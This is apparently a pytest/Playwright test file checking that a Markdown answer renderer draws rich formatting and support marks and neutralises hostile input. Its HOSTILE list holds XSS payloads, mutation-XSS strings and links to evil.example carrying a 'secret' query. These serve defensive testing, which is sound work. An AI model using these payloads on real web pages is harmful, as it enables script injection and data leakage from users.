"""Answers are drawn as Markdown, with one mark of support each; what is hostile stays text. In a real Chromium."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.browsing import browser
from tests.server.page.support import FILES, Open, Tab, Thinker, ask, folder, library, module, opened, served

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

__all__ = ["browser", "library", "opened"]  # fixtures

RICH = r"""## The mill

The water mill of Ashford was built in 1803 by **Thomas Croft** [1].
The moon is made of green cheese. The moon is made of green cheese.

- The water mill of Ashford was built in 1803 by Thomas Croft. [1]
- It stood empty for twenty years.

| year | what |
|-----:|------|
| 1803 | built by Thomas Croft [1] |
| 1999 | painted by Greta Blom |

```python
print(years[1])
```

---

It follows that $x^2 + \frac{1}{2} = \boxed{3}$ and costs $5 or $10.

\[ \int_0^1 x\,dx \]
"""
HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "[press](javascript:alert(1))",
    "[press](https://evil.example/?q=secret)",
    "![picture](https://evil.example/?q=secret)",
    "<https://evil.example/>",
    "[1]: https://evil.example/ 'x'\n\nSee [1] and [it][1].",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <style>*{display:none}</style> | [a](data:text/html,x) |",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    r"$\href{javascript:alert(1)}{x}$ $\url{https://evil.example/}$ $\includegraphics{https://evil.example/x.png}$",
    r"$\htmlData{x=y}{z}$ $\htmlStyle{color:red}{z}$ $\class{main}{z}$ $\text{<img src=x onerror=alert(1)>}$",
    r"$\def\x{\x\x}\x$ and $\colorbox{red}{\fbox{a}}$",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    "<a id=state name=state>x</a><form id=main></form>",
    "\ufdd00\ufdd2 \ufdd17\ufdd2",
]
RUNS = (
    ".answer :is(a, img, script, style, iframe, object, embed, form, input, svg:not(.icon), base, link, meta),"
    " .answer [href], .answer [src], .answer [style], .answer [id], .answer [name], .answer [onerror]"
)


def replying(reply: str) -> Callable[[], Thinker]:
    return lambda: Thinker(reply=reply)


@pytest.fixture(scope="module")
def rich(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
    """The page with an answer that has everything."""
    root = folder(tmp_path_factory.mktemp("rich") / "a")
    with served(root, generator=replying(RICH), generation__style="free", answers__strictness=0.0) as url:
        tab = Tab(browser, url)
        page = tab.open()
        ask(page, "Who built the water mill of Ashford?")
        yield page
        tab.close()


def test_markdown_is_drawn(rich: Page) -> None:
    answer = rich.locator(".answer")
    assert answer.locator("h3").inner_text() == "The mill"
    assert answer.locator("strong").inner_text() == "Thomas Croft"
    assert answer.locator("ul li").count() == 2
    assert answer.locator("table th").all_inner_texts() == ["year", "what"]
    assert answer.locator("td.to-right").first.inner_text() == "1803"
    assert answer.locator("pre code").inner_text() == "print(years[1])"
    assert answer.locator("hr").count() == 1
    assert answer.locator("math").count() == 2
    assert answer.locator("math msup").count() == 1
    assert answer.locator(".math.display math[display=block]").count() == 1
    assert "costs $5 or $10" in answer.inner_text()
    assert answer.locator("math mfrac").evaluate("node => node.getBoundingClientRect().height") > 10


def test_each_sentence_has_one_state_and_a_block_one_mark(rich: Page) -> None:
    answer = rich.locator(".answer")
    paragraph = answer.locator(".block > p:not(.support)").first
    assert paragraph.locator(".cite").count() == 1
    assert paragraph.locator(".unsupported").all_inner_texts() == ["The moon is made of green cheese."] * 2
    marks = paragraph.locator(".cite.unverified, .no-source").count()
    assert marks == 2  # each time that it is said
    for block in ("ul", ".scroll"):
        holder = answer.locator(f".block:has(> {block})")
        assert holder.locator(f"{block} .cite, {block} .no-source").count() == 0
        assert holder.locator(".support").count() == 1
    assert answer.locator(".block:has(> ul) .support .no-source").count() == 0
    assert "in part no source" in answer.locator(".block:has(> .scroll) .support").inner_text()
    assert answer.locator(".block:is(:has(> h3), :has(> hr)) :is(.cite, .no-source)").count() == 0


def test_the_models_own_numbers_do_not_stand_beside_ours(rich: Page) -> None:
    answer = rich.locator(".answer")
    assert "[1]" not in answer.inner_text().replace("years[1]", "")
    assert "years[1]" in answer.inner_text()


def test_hostile_markdown_runs_nothing_and_loads_nothing(browser: Browser, tmp_path: Path) -> None:
    reply = "\n\n".join(HOSTILE)
    with served(
        folder(tmp_path / "a"), generator=replying(reply), generation__style="free", answers__strictness=0.0
    ) as url:
        tab = Tab(browser, url)  # it fails where a dialog opens, the console complains, or another site is asked
        page = tab.open()
        ask(page, "Who built the mill?")
        page.wait_for_timeout(200)
        assert page.locator(RUNS).count() == 0
        shown = page.locator(".answer").inner_text()
        assert "<script>alert(1)</script>" in shown
        assert "evil.example" in shown  # an address is shown, and leads nowhere
        assert page.evaluate("window.state === undefined && document.getElementById('main').tagName === 'MAIN'")
        tab.close()


@pytest.mark.parametrize("n", range(len(HOSTILE)))
def test_hostile_words_alone(opened: Open, n: int) -> None:
    page = opened()
    bad = f"at.parentNode.querySelectorAll({_js(RUNS)}).length"
    drawn = module(page, "markdown.js", _drawn(HOSTILE[n], f"{{ bad: {bad}, text: at.textContent }}"))
    assert drawn["bad"] == 0
    assert drawn["text"].strip() or n == len(HOSTILE) - 1


def test_it_is_drawn_while_it_is_written(browser: Browser, tmp_path: Path) -> None:
    def make() -> Thinker:
        return Thinker(reply=RICH, step_s=0.03)

    with served(folder(tmp_path / "a"), generator=make, generation__style="free", answers__strictness=0.0) as url:
        tab = Tab(browser, url)
        page = tab.open()
        page.locator("#question").fill("Who built the water mill of Ashford?")
        page.keyboard.press("Enter")
        until = time.monotonic() + 60
        seen: list[Any] = []
        while not seen or seen[-1]["state"] != "done":
            assert time.monotonic() < until
            seen.append(
                page.evaluate(
                    """() => ({
                      state: document.querySelector(".lane")?.dataset.state,
                      strong: document.querySelectorAll(".answer strong").length,
                      table: document.querySelectorAll(".answer table").length,
                      text: document.querySelector(".answer")?.innerText ?? "",
                    })"""
                )
            )
            page.wait_for_timeout(20)
        writing = [look for look in seen if look["state"] == "writing"]
        assert any(look["strong"] for look in writing)
        assert any(look["table"] for look in writing)
        assert not any(re.search(r"(?<!years)\[1", look["text"]) for look in writing)
        tab.close()


def test_words_of_a_document_keep_their_signs(browser: Browser, tmp_path: Path) -> None:
    quote = r"The mill of C:\temp\_x costs $2_000 and *not* $3_000 # ever."
    with served(
        folder(tmp_path / "a", {**FILES, "signs.txt": quote}), generation__style="extractive", answers__strictness=0.0
    ) as url:
        tab = Tab(browser, url)
        page = tab.open()
        ask(page, "What does the mill of C temp x cost ever?")
        assert quote.rstrip(".") in page.locator(".answer").inner_text()
        tab.close()


@pytest.mark.parametrize(
    ("text", "selector", "words"),
    [
        ("これは**「文庫」**です。", "strong", "「文庫」"),
        ("彼は**太郎（たろう）**と言った。", "strong", "太郎（たろう）"),
        ("a **b.** c", "strong", "b."),
        ("2 * 3 * 4", "em", None),
        ("snake_case_name", "em", None),
        (r"面積は\(a^2\)です。", "math msup", "a2"),
        ("$5 and $10", "math", None),
        ("US$5 (US$7)", "math", None),
        ("$x$", "math mi", "x"),
        ("`$x$`", "math", None),
    ],
)
def test_forms_of_words(opened: Open, text: str, selector: str, words: str | None) -> None:
    page = opened()
    each = f"[...at.querySelectorAll({_js(selector)})].map((one) => one.textContent)"
    found = module(page, "markdown.js", _drawn(text, each))
    assert found == ([] if words is None else [words])


def _js(text: str) -> str:
    return json.dumps(text)


def _drawn(text: str, result: str) -> str:
    """Return an expression that draws a text at the end of the page, in `at`, and has a result."""
    made = "const at = document.createElement('div'); at.className = 'answer'; document.body.append(at);"
    return f"(() => {{ {made} at.append(...m.drawn({_js(text)})); return {result}; }})()"
